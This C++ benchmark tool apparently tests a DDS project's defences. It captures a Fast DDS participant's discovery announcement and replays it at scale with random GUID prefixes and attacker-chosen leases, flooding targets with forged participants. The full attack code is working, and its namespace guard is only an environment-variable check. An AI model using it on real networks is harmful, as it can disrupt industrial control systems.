// bench-forged-announcements: the forged-discovery flood of issue 25 ("Why" 1), as an attacker on
// the plant network would send it. It captures one real secured participant's SPDP announcement
// (DATA(p): its identity token, permissions token, security info, locators), then replays it N
// times to a target, each copy with a random GUID prefix so that every copy is a new remote
// participant with a pending PKI-DH handshake. No certificate is ever sent: the handshake cannot
// complete, which is the point. Without --pki, an unsecured participant's announcement (a line
// without DDS Security). --lease-s sets the lease each copy announces (the attacker's choice),
// --repeat sends each copy more than once (as a real participant announces itself).
//
// The announcement is captured from a participant this program creates (with an identity that
// launch_scripts/pki.sh issued, --pki/--identity, or none) whose only initial peer is a UDP socket
// of this program: it announces itself there and nowhere else, so the line never meets it. It is
// deleted before the flood: the replayed copies point to locators where nobody answers.
//
// Real UDP sockets: run it only inside a private network namespace (launch_scripts/netns-run.sh).
// Prints one key=value line per fact (what it sent, to where, how fast).
#include <arpa/inet.h>
#include <fmt/format.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>
#include <CLI/CLI.hpp>

#include <fastrtps/utils/IPLocator.h>
#include <fastdds/dds/domain/DomainParticipantFactory.hpp>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <optional>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "dds/participant.hpp"
#include "security_option.hpp"

namespace fdds = eprosima::fastdds::dds;
using namespace std::chrono_literals;
using Clock = std::chrono::steady_clock;

namespace {

using Datagram = std::vector<std::uint8_t>;
using Prefix = std::array<std::uint8_t, 12>;

constexpr std::size_t kHeaderSize = 20;  // "RTPS", version, vendor, GUID prefix
constexpr std::size_t kPrefixOffset = 8;
constexpr std::uint8_t kSubmsgData = 0x15;
constexpr std::uint8_t kSubmsgSrtpsPrefix = 0x33;
// ENTITYID_SPDP_BUILTIN_RTPSParticipant_WRITER: the writer of DATA(p)
constexpr std::array<std::uint8_t, 4> kSpdpWriter{0x00, 0x01, 0x00, 0xc2};

[[noreturn]] void fail(const std::string& why) {
  std::fprintf(stderr, "bench-forged-announcements: %s\n", why.c_str());
  std::exit(1);
}

// A UDP socket closed with its owner.
class UdpSocket {
 public:
  UdpSocket() : fd_(::socket(AF_INET, SOCK_DGRAM, 0)) {
    if (fd_ < 0) fail(std::string("socket: ") + std::strerror(errno));
  }
  ~UdpSocket() { ::close(fd_); }
  UdpSocket(const UdpSocket&) = delete;
  UdpSocket& operator=(const UdpSocket&) = delete;
  int fd() const { return fd_; }

 private:
  int fd_;
};

struct Target {
  sockaddr_in address{};
  std::string text;
};

Target parse_target(const std::string& text) {
  const auto colon = text.rfind(':');
  if (colon == std::string::npos) fail("--target " + text + ": expected HOST:PORT (an IPv4 address)");
  Target t;
  t.text = text;
  t.address.sin_family = AF_INET;
  if (::inet_pton(AF_INET, text.substr(0, colon).c_str(), &t.address.sin_addr) != 1) {
    fail("--target " + text + ": '" + text.substr(0, colon) + "' is not an IPv4 address");
  }
  const int port = std::atoi(text.substr(colon + 1).c_str());
  if (port < 1 || port > 65535) fail("--target " + text + ": the port is not in 1..65535");
  t.address.sin_port = htons(static_cast<std::uint16_t>(port));
  return t;
}

// Whether a datagram is an unprotected RTPS message carrying a DATA submessage of the SPDP writer.
// An SRTPS_PREFIX first means the governance protects whole RTPS messages: not replayable as is.
bool is_spdp_announcement(const Datagram& d, bool& protected_message) {
  if (d.size() < kHeaderSize || std::memcmp(d.data(), "RTPS", 4) != 0) return false;
  std::size_t at = kHeaderSize;
  while (at + 4 <= d.size()) {
    const std::uint8_t id = d[at];
    const bool little = (d[at + 1] & 0x01) != 0;
    const std::size_t length = little ? (d[at + 2] | (d[at + 3] << 8)) : ((d[at + 2] << 8) | d[at + 3]);
    if (id == kSubmsgSrtpsPrefix) protected_message = true;
    // DATA: extraFlags(2) octetsToInlineQos(2) readerId(4) writerId(4) ...
    if (id == kSubmsgData && at + 4 + 12 <= d.size() &&
        std::equal(kSpdpWriter.begin(), kSpdpWriter.end(), d.begin() + static_cast<long>(at + 4 + 8))) {
      return true;
    }
    if (length == 0) break;  // the last submessage extends to the end of the message
    at += 4 + length;
  }
  return false;
}

// Creates a secured participant whose only peer is `capture`'s port, and returns its first
// announcement. The participant is deleted before this returns.
Datagram capture_announcement(const lb::ddsl::ParticipantOptions& options, const UdpSocket& capture,
                              std::uint16_t capture_port) {
  auto qos = lb::ddsl::participant_qos(options, nullptr);
  if (!qos) fail(qos.error().message);
  auto& builtin = qos->wire_protocol().builtin;
  builtin.initialPeersList.clear();  // announce to the capture socket only: the line never meets it
  eprosima::fastrtps::rtps::Locator_t peer;
  peer.kind = LOCATOR_KIND_UDPv4;
  eprosima::fastrtps::rtps::IPLocator::setIPv4(peer, 127, 0, 0, 1);
  eprosima::fastrtps::rtps::IPLocator::setPhysicalPort(peer, capture_port);
  builtin.initialPeersList.push_back(peer);
  auto* factory = fdds::DomainParticipantFactory::get_instance();
  auto* participant = factory->create_participant(options.domain, *qos);
  if (participant == nullptr) fail("Fast DDS refused the participant whose announcement was to be captured");
  std::optional<Datagram> found;
  bool protected_message = false;
  const auto deadline = Clock::now() + 10s;
  while (!found && Clock::now() < deadline) {
    pollfd p{capture.fd(), POLLIN, 0};
    if (::poll(&p, 1, 100) <= 0) continue;
    Datagram d(65536);
    const auto n = ::recv(capture.fd(), d.data(), d.size(), 0);
    if (n <= 0) continue;
    d.resize(static_cast<std::size_t>(n));
    if (is_spdp_announcement(d, protected_message)) found = std::move(d);
  }
  factory->delete_participant(participant);
  if (protected_message) fail("the announcement is RTPS-protected (governance rtps_protection_kind): not replayable");
  if (!found) fail("no SPDP announcement reached the capture socket within 10 s");
  return *found;
}

// Every occurrence of `from` in the datagram replaced by `to`: the header's GUID prefix, the
// participant GUID and key hash parameters (any place the announcement names itself).
Datagram with_prefix(const Datagram& original, const Prefix& from, const Prefix& to, int& replaced) {
  Datagram d = original;
  replaced = 0;
  for (auto it = std::search(d.begin(), d.end(), from.begin(), from.end()); it != d.end();
       it = std::search(it + static_cast<long>(from.size()), d.end(), from.begin(), from.end())) {
    std::copy(to.begin(), to.end(), it);
    ++replaced;
  }
  return d;
}

// The announced participant lease (PID_PARTICIPANT_LEASE_DURATION) set to `seconds` (0x7fffffff:
// Fast DDS's infinite) in the DATA(p)'s parameter list: an attacker chooses how long each forged
// participant is kept. Returns whether the parameter was found.
bool set_lease(Datagram& d, std::int32_t seconds) {
  constexpr std::uint16_t kPidSentinel = 0x0001, kPidLease = 0x0002;
  std::size_t at = kHeaderSize;
  while (at + 4 <= d.size()) {
    const std::uint8_t id = d[at];
    const std::uint8_t flags = d[at + 1];
    const bool little = (flags & 0x01) != 0;
    const auto u16 = [&](std::size_t i) {
      return static_cast<std::uint16_t>(little ? (d[i] | (d[i + 1] << 8)) : ((d[i] << 8) | d[i + 1]));
    };
    const std::size_t length = u16(at + 2);
    const std::size_t end = length == 0 ? d.size() : std::min(d.size(), at + 4 + length);
    if (id == kSubmsgData && at + 24 <= end &&
        std::equal(kSpdpWriter.begin(), kSpdpWriter.end(), d.begin() + static_cast<long>(at + 4 + 8))) {
      // extraFlags(2) octetsToInlineQos(2) readerId(4) writerId(4) writerSN(8), then inline QoS
      std::size_t p = at + 4 + 4 + u16(at + 6);
      const auto skip_list = [&](std::size_t q, bool payload_little, auto&& visit) {
        while (q + 4 <= end) {
          const auto pid = static_cast<std::uint16_t>(payload_little ? (d[q] | (d[q + 1] << 8))
                                                                     : ((d[q] << 8) | d[q + 1]));
          const auto len = static_cast<std::size_t>(payload_little ? (d[q + 2] | (d[q + 3] << 8))
                                                                   : ((d[q + 2] << 8) | d[q + 3]));
          if (pid == kPidSentinel) return q + 4;
          visit(pid, q + 4, len, payload_little);
          q += 4 + len;
        }
        return end;
      };
      if ((flags & 0x02) != 0) p = skip_list(p, little, [](auto, auto, auto, auto) {});
      if (p + 4 > end) return false;
      const bool payload_little = d[p + 1] == 0x03;  // PL_CDR_LE (0x0003), else PL_CDR_BE
      bool found = false;
      skip_list(p + 4, payload_little, [&](std::uint16_t pid, std::size_t value, std::size_t len, bool le) {
        if (pid != kPidLease || len < 8) return;
        const auto s = static_cast<std::uint32_t>(seconds);
        for (int b = 0; b < 4; ++b)
          d[value + static_cast<std::size_t>(le ? b : 3 - b)] = static_cast<std::uint8_t>(s >> (8 * b));
        for (std::size_t b = 4; b < 8; ++b) d[value + b] = 0;
        found = true;
      });
      return found;
    }
    if (length == 0) break;
    at += 4 + length;
  }
  return false;
}

std::string prefix_text(const Prefix& p) {
  std::string s;
  for (std::size_t i = 0; i < p.size(); ++i) s += fmt::format("{}{:02x}", i > 0 && i % 4 == 0 ? "." : "", p[i]);
  return s;
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App cli{"Replay one (secured) participant's discovery announcement N times with random GUID prefixes "
               "(issue 25's forged-discovery flood). Run only inside a private network namespace."};
  int domain = 0;
  int count = 200;
  double rate = 0;
  std::vector<std::string> target_texts;
  std::string save;
  std::uint64_t seed = std::random_device{}();
  bool verbose = false;
  int lease_s = 0;
  int repeat = 1;
  lb::bench::SecurityOption security;
  cli.add_option("--domain", domain, "DDS domain of the captured participant")->check(CLI::Range(0, 232));
  cli.add_option("--count,-n", count, "announcements to send (each a new GUID prefix)")
      ->check(CLI::Range(1, 10'000'000));
  cli.add_option("--rate", rate, "announcements per second (0: as fast as the socket takes them)")
      ->check(CLI::Range(0.0, 1e7));
  cli.add_option("--target", target_texts,
                 "HOST:PORT to send each announcement to (repeatable; default: the domain's SPDP multicast "
                 "239.255.0.1:7400+250*domain, which every participant of the domain hears)");
  cli.add_option("--save", save, "also write the captured announcement to this file");
  cli.add_option("--seed", seed, "seed of the random GUID prefixes (default: random)");
  cli.add_flag("--verbose,-v", verbose, "print every GUID prefix sent");
  cli.add_option("--lease-s", lease_s,
                 "the lease each forged participant announces, seconds (default: the captured one's; 2147483647: "
                 "infinite)")
      ->check(CLI::Range(1, 0x7fffffff));
  cli.add_option("--repeat", repeat,
                 "send each forged participant's announcement this many times, back to back (a participant that "
                 "announces once only is not let in by a discovery gate; one that repeats is)")
      ->check(CLI::Range(1, 100));
  security.add(cli);
  CLI11_PARSE(cli, argc, argv);
  // Without --pki: an unsecured participant's announcement, for a line without DDS Security.
  if (!security.pki.empty() && security.identity.empty()) fail("--identity is required with --pki");
  if (std::getenv("LINEBRIDGE_NETNS") == nullptr) {
    fail("run through launch_scripts/netns-run.sh: this program sends forged DDS discovery traffic");
  }

  std::vector<Target> targets;
  for (const auto& t : target_texts) targets.push_back(parse_target(t));
  if (targets.empty()) targets.push_back(parse_target(fmt::format("239.255.0.1:{}", 7400 + 250 * domain)));

  // The capture socket: an ephemeral port on loopback.
  UdpSocket capture;
  sockaddr_in local{};
  local.sin_family = AF_INET;
  local.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::bind(capture.fd(), reinterpret_cast<sockaddr*>(&local), sizeof local) != 0)
    fail(std::string("bind: ") + std::strerror(errno));
  socklen_t length = sizeof local;
  ::getsockname(capture.fd(), reinterpret_cast<sockaddr*>(&local), &length);
  const auto options = security.options(domain, "forged-announcement-source");
  Datagram original = capture_announcement(options, capture, ntohs(local.sin_port));
  if (lease_s > 0 && !set_lease(original, lease_s)) fail("no participant lease in the captured announcement");
  if (lease_s > 0) std::printf("lease_s=%d\n", lease_s);
  Prefix captured{};
  std::copy_n(original.begin() + kPrefixOffset, captured.size(), captured.begin());
  std::printf("captured_bytes=%zu\ncaptured_prefix=%s\n", original.size(), prefix_text(captured).c_str());
  if (!save.empty()) {
    std::ofstream(save, std::ios::binary)
        .write(reinterpret_cast<const char*>(original.data()), static_cast<std::streamsize>(original.size()));
  }

  UdpSocket out;
  const unsigned char loop = 1;  // multicast to this host's own participants too (loopback in the namespace)
  ::setsockopt(out.fd(), IPPROTO_IP, IP_MULTICAST_LOOP, &loop, sizeof loop);
  in_addr lo{};
  lo.s_addr = htonl(INADDR_LOOPBACK);
  ::setsockopt(out.fd(), IPPROTO_IP, IP_MULTICAST_IF, &lo, sizeof lo);

  std::mt19937_64 random(seed);
  std::uint64_t sent = 0, failed = 0;
  int replaced = 0;
  const auto start = Clock::now();
  for (int i = 0; i < count; ++i) {
    if (rate > 0)
      std::this_thread::sleep_until(
          start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(i / rate)));
    Prefix prefix{};
    for (auto& b : prefix) b = static_cast<std::uint8_t>(random());
    prefix[0] |= 0x80;  // as a secured participant's prefix (derived from its certificate) has it
    const Datagram d = with_prefix(original, captured, prefix, replaced);
    for (int r = 0; r < repeat; ++r) {
      for (const auto& t : targets) {
        if (::sendto(out.fd(), d.data(), d.size(), 0, reinterpret_cast<const sockaddr*>(&t.address),
                     sizeof t.address) == static_cast<ssize_t>(d.size())) {
          ++sent;
        } else {
          ++failed;
        }
      }
    }
    if (verbose) std::printf("prefix=%s\n", prefix_text(prefix).c_str());
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
  for (const auto& t : targets) std::printf("target=%s\n", t.text.c_str());
  std::printf("announcements=%d\nprefix_places_replaced=%d\ndatagrams_sent=%llu\ndatagrams_failed=%llu\nseconds=%.3f\n"
              "rate_per_s=%.0f\nseed=%llu\n",
              count, replaced, static_cast<unsigned long long>(sent), static_cast<unsigned long long>(failed), seconds,
              seconds > 0 ? count / seconds : 0.0, static_cast<unsigned long long>(seed));
  return failed == 0 ? 0 : 1;
}
